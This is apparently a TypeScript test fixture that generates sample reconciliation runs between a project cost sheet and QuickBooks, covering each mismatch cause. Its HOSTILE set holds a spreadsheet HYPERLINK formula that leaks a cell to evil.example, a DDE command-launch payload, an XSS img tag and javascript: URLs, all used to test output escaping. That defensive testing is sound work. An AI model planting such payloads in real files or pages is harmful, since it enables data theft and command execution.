import { gzipSync } from 'node:zlib';
import type { Cause } from '../../src/reconciliation/types.ts';
import { type CheckName, checkTotals, type RunCheck } from '../../src/reconciling/checks/finding.ts';
import { subjectsOf } from '../../src/reconciling/found.ts';
import type {
  LedgerRow,
  RunDocument,
  RunMatch,
  RunSummary,
  RunUnmatched,
  SheetRow,
} from '../../src/reconciling/run.ts';
import { periodTotals } from '../../src/reconciling/totals.ts';
import { json } from '../../src/store/approvals.ts';
import { COMPANY, type Database } from '../../src/store/database.ts';

/** Runs made up for the report: every cause, texts that are meant to break it, and as many rows as are asked for. */

const PERIOD = { from: '2026-10-01', to: '2026-10-31' };
const VENDORS = [
  'Atlas Print',
  'Brook & Sons Electrical',
  'Corvid Hosting',
  'Delta Freight',
  'Élan Studio',
  'Fieldstone Staffing',
];
const WORK = [
  'Homepage photos',
  'Server rental',
  'Brochures, second print',
  'Site survey',
  'Contract developers, week 41',
];
const CODES = ['6100 Advertising', '6200 Hosting', '6300 Subcontractors', '6400 Travel', '6500 Equipment'];

const pick = <T>(from: readonly T[], index: number): T => {
  const found = from[index % from.length];
  if (found === undefined) throw new Error('nothing to pick from');
  return found;
};

function sheetRow(index: number, changes: Partial<SheetRow> = {}): SheetRow {
  return {
    id: `row${index}`,
    rowNumber: index + 1,
    description: pick(WORK, index * 7),
    vendor: pick(VENDORS, index),
    invoice: `IN-${10_000 + index}`,
    po: index % 3 === 0 ? `PO-${700 + (index % 40)}` : '',
    date: `2026-10-${String((index % 28) + 1).padStart(2, '0')}`,
    amountMinor: ((index * 7_919) % 900_000) + 1_250,
    currency: 'USD',
    account: pick(CODES, index * 3),
    budgetMinor: 500_000,
    transactionId: '',
    status: '',
    notes: '',
    inPeriod: true,
    ...changes,
  };
}

export function posting(index: number, changes: Partial<LedgerRow> = {}): LedgerRow {
  const row = sheetRow(index);
  return {
    id: `Bill:${4_000 + index}:1`,
    type: 'Bill',
    txnId: String(4_000 + index),
    lineId: '1',
    syncToken: '0',
    number: row.invoice,
    vendorId: '55',
    vendor: row.vendor,
    po: row.po,
    date: row.date,
    amountMinor: row.amountMinor,
    currency: 'USD',
    accountId: '9',
    account: row.account,
    classId: '',
    class: 'Web',
    customerId: '7',
    customer: 'Acme Corp:Website',
    memo: row.description,
    url: `https://app.qbo.intuit.com/app/bill?txnId=${4_000 + index}`,
    hasAttachment: true,
    inPeriod: true,
    ...changes,
  };
}

export interface Made {
  checks?: RunCheck[];
  sheetRows: SheetRow[];
  ledgerRows: LedgerRow[];
  matches: RunMatch[];
  unmatched: { sheet: RunUnmatched[]; ledger: RunUnmatched[] };
}

/** Appends to both lists, and remembers where. */
function making() {
  const made: Made = { sheetRows: [], ledgerRows: [], matches: [], unmatched: { sheet: [], ledger: [] } };
  const put = <Row>(list: Row[], rows: readonly Row[]) => rows.map((row) => list.push(row) - 1);
  return {
    made,
    match(
      cause: Cause,
      sheet: readonly SheetRow[],
      ledger: readonly LedgerRow[],
      why: string[],
      confidence = 0.9987,
    ) {
      const sum = (rows: readonly { amountMinor: number }[]) =>
        rows.reduce((all, row) => all + row.amountMinor, 0);
      const crosses = new Set([...sheet, ...ledger].map(({ currency }) => currency)).size > 1;
      const difference = sum(ledger) - sum(sheet);
      made.matches.push({
        sheet: put(made.sheetRows, sheet),
        ledger: put(made.ledgerRows, ledger),
        cause,
        differenceMinor: crosses ? null : difference,
        parts: crosses || difference === 0 ? [] : [{ cause, amountMinor: difference }],
        confidence,
        why,
      });
    },
    lonely(
      side: 'sheet' | 'ledger',
      cause: Cause,
      row: SheetRow | LedgerRow,
      why: string[],
      candidates: number[] = [],
    ) {
      const list: (SheetRow | LedgerRow)[] = side === 'sheet' ? made.sheetRows : made.ledgerRows;
      made.unmatched[side].push({ row: list.push(row) - 1, cause, why, candidates });
    },
  };
}

export const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  markup: '<img src=x onerror="document.title=1">',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1+9)',
  tab: '\t=1+1',
  wide: '＝1+1',
};

/** One of every cause, and the hostile texts. */
export function everyCause(): Made {
  const { made, match, lonely } = making();
  match('none', [sheetRow(0)], [posting(0)], ['same PO, amounts equal, same day']);
  match(
    'amount',
    [sheetRow(1, { amountMinor: 120_000 })],
    [posting(1, { amountMinor: 124_000 })],
    ['same invoice number; amounts differ by $40.00'],
  );
  match(
    'tax',
    [sheetRow(2, { amountMinor: 100_000 })],
    [posting(2, { amountMinor: 108_250 })],
    ['same invoice number; 8.25 % tax in QuickBooks'],
  );
  match(
    'currency',
    [sheetRow(3, { currency: 'EUR', amountMinor: 80_000 })],
    [posting(3, { amountMinor: 86_400 })],
    ['same PO; rate 1.08'],
  );
  match(
    'split',
    [sheetRow(4, { amountMinor: 300_000 })],
    [
      posting(4, { amountMinor: 100_000 }),
      posting(5, { amountMinor: 150_000 }),
      posting(6, { amountMinor: 50_000 }),
    ],
    ['3 of 17 postings add up exactly; no other subset does'],
  );
  match(
    'combined',
    [sheetRow(5, { amountMinor: 40_000 }), sheetRow(6, { amountMinor: 60_000 })],
    [posting(7, { amountMinor: 100_000 })],
    ['2 rows add up to one bill'],
  );
  match(
    'combined',
    [
      sheetRow(30, { amountMinor: 10_000 }),
      sheetRow(31, { amountMinor: 20_000 }),
      sheetRow(32, { amountMinor: 30_000 }),
    ],
    [posting(33, { amountMinor: 35_000 }), posting(34, { amountMinor: 25_000 })],
    ['3 rows and 2 postings add up'],
  );
  match(
    'coding',
    [sheetRow(7)],
    [posting(8, { amountMinor: sheetRow(7).amountMinor, account: '6999 Other' })],
    ['same invoice number; the sheet says 6200, QuickBooks 6999'],
  );
  match(
    'timing',
    [sheetRow(8, { date: '2026-10-30' })],
    [posting(9, { amountMinor: sheetRow(8).amountMinor, date: '2026-11-12', inPeriod: false })],
    ['same invoice number; 13 days apart'],
  );
  lonely('ledger', 'duplicate', posting(10, { amountMinor: sheetRow(0).amountMinor }), [
    'twin of Bill IN-10000',
  ]);
  lonely('ledger', 'reversal', posting(11, { amountMinor: 55_500, vendor: 'Delta Freight' }), [
    'cancelled by the entry of 20 October',
  ]);
  lonely(
    'ledger',
    'reversal',
    posting(12, { type: 'VendorCredit', amountMinor: -55_500, vendor: 'Delta Freight' }),
    ['cancels the bill of 12 October'],
  );
  lonely(
    'sheet',
    'missing-in-ledger',
    sheetRow(9, { vendor: HOSTILE.formula, description: HOSTILE.markup }),
    ['no posting of this vendor within 45 days'],
  );
  lonely(
    'ledger',
    'missing-in-sheet',
    posting(13, { vendor: HOSTILE.markup, memo: HOSTILE.plus, url: 'javascript:alert(1)' }),
    ['no row of this vendor'],
  );
  lonely(
    'sheet',
    'missing-in-ledger',
    sheetRow(10, {
      amountMinor: 12_000,
      invoice: HOSTILE.minus,
      po: HOSTILE.at,
      notes: HOSTILE.tab,
      description: HOSTILE.wide,
    }),
    ['two postings fit equally well'],
    [0, 1],
  );
  made.checks = [
    found('duplicate-before-paid', 0, { message: 'Bill IN-10000 may be paid twice', amountMinor: 68_430 }),
    ...[1, 2, 3, 4, 5].map((index) => found('missing-receipt', index, { amountMinor: 10_000 + index })),
    found('missing-receipt', 6, { amountMinor: 5_000, currency: 'EUR' }),
    found('unbilled-labour', 7, { message: HOSTILE.formula, url: 'javascript:alert(1)' }),
    found('unbilled-labour', 8, { message: HOSTILE.markup, sheet: 'billing', rowNumber: 12 }),
  ];
  return made;
}

function found(check: CheckName, index: number, changes: Partial<RunCheck>): RunCheck {
  return {
    ...{ check, key: `${check}:${index}`, amountMinor: 1_250, currency: 'USD', date: '2026-10-12' },
    ...{ rowNumber: null, sheet: null, postings: [`Bill:${4_000 + index}:1`] },
    message: `Bill ${4_000 + index} of Atlas Print has nothing attached`,
    url: `https://app.qbo.intuit.com/app/bill?txnId=${4_000 + index}`,
    ...changes,
  };
}

/** So many rows on each side, most of them agreeing. */
export function manyRows(count: number): Made {
  const { made, match, lonely } = making();
  for (let index = 0; index < count; index += 1) {
    const row = sheetRow(index);
    if (index % 50 === 7)
      match(
        'amount',
        [row],
        [posting(index, { amountMinor: row.amountMinor + 4_000 })],
        ['same invoice number; amounts differ by $40.00'],
        0.973,
      );
    else if (index % 50 === 23)
      lonely('sheet', 'missing-in-ledger', row, ['no posting of this vendor and amount']);
    else if (index % 50 === 31)
      lonely('ledger', 'missing-in-sheet', posting(index), ['no row of this vendor and amount']);
    else if (index % 50 === 41)
      match(
        'coding',
        [row],
        [posting(index, { account: '6999 Other' })],
        ['same invoice number; coded differently'],
      );
    else if (index % 100 === 3)
      match(
        'split',
        [row],
        [
          posting(index, { amountMinor: 1_000 }),
          posting(index + count, { amountMinor: row.amountMinor - 1_000 }),
        ],
        ['2 of 9 postings add up exactly'],
      );
    else match('none', [row], [posting(index)], ['same invoice number, amounts equal, same day']);
  }
  return made;
}

export function documentOf(made: Made): { document: RunDocument; summary: RunSummary } {
  const period = PERIOD;
  const sheet = { id: '77', name: 'Acme costs', url: 'https://app.smartsheet.com/sheets/77' };
  const subjects = subjectsOf({ ...made, sheet, period }, 'USD');
  const counts = new Map<Cause, number>();
  for (const { cause } of subjects) counts.set(cause, (counts.get(cause) ?? 0) + 1);
  const totals = periodTotals(made, 'USD', counts);
  const lines = CODES.map((name, index) => {
    const own = made.sheetRows.filter(({ account }) => account === name);
    const actualMinor = own.reduce((sum, { amountMinor }) => sum + amountMinor, 0);
    const budgetMinor = Math.round(actualMinor * (1.3 - index * 0.1));
    return { name, budgetMinor, actualMinor, forecastMinor: actualMinor + 150_000 };
  }).sort((a, b) => b.forecastMinor - b.budgetMinor - (a.forecastMinor - a.budgetMinor));
  const total = (key: 'budgetMinor' | 'actualMinor' | 'forecastMinor') =>
    lines.reduce((sum, line) => sum + line[key], 0);
  const budget = {
    currency: 'USD',
    total: {
      budgetMinor: total('budgetMinor'),
      actualMinor: total('actualMinor'),
      forecastMinor: total('forecastMinor'),
    },
    lines,
  };
  const problems = [{ rowNumber: 912, message: 'has “tbd” for Actual Cost' }];
  const document: RunDocument = {
    format: 1,
    project: { code: 'ACME-WEB', name: 'Acme website' },
    period,
    marginDays: 31,
    madeAt: '2026-11-22T15:00:00.000Z',
    sheet,
    customer: 'Acme Corp:Website',
    tolerance: { amountMinor: 100, currency: 'USD', percent: 0.5, days: 7 },
    ...made,
    totals,
    budget,
    problems,
  };
  const text = `The sheet and QuickBooks differ by ${totals.differenceMinor / 100} dollars in October 2026. What is missing in QuickBooks weighs most.`;
  const variances = { open: subjects.length, fresh: [], changed: [], settled: [], decided: 0, snoozed: 0 };
  const summary: RunSummary = {
    ...{ totals, budget, variances, problems: problems.length },
    narrative: { text, author: 'template' },
    notes: ['The sheet “Acme costs” has no column “PO #”; I go on without.'],
    checks: (made.checks ?? []).slice(0, 300),
    checkTotals: checkTotals(made.checks ?? []),
  };
  return { document, summary };
}

/** Keeps a run as the reconciliation does, and gives its number. */
export async function kept({ prisma }: Database, made: Made | null, status = 'done'): Promise<number> {
  const whole = made && documentOf(made);
  const key = `r${Math.random()}`;
  const row = await prisma.reconciliation.create({
    data: {
      ...{
        id: key,
        company: COMPANY,
        project: 'ACME-WEB',
        periodFrom: PERIOD.from,
        periodTo: PERIOD.to,
        status,
      },
      ...{
        requestedBy: 'U0FIN',
        requestKey: key,
        channel: 'C0ACME',
        startedAt: new Date('2026-11-22T15:00:00Z'),
      },
      ...(whole
        ? { summary: json(whole.summary), document: new Uint8Array(gzipSync(JSON.stringify(whole.document))) }
        : {}),
    },
  });
  return row.number;
}
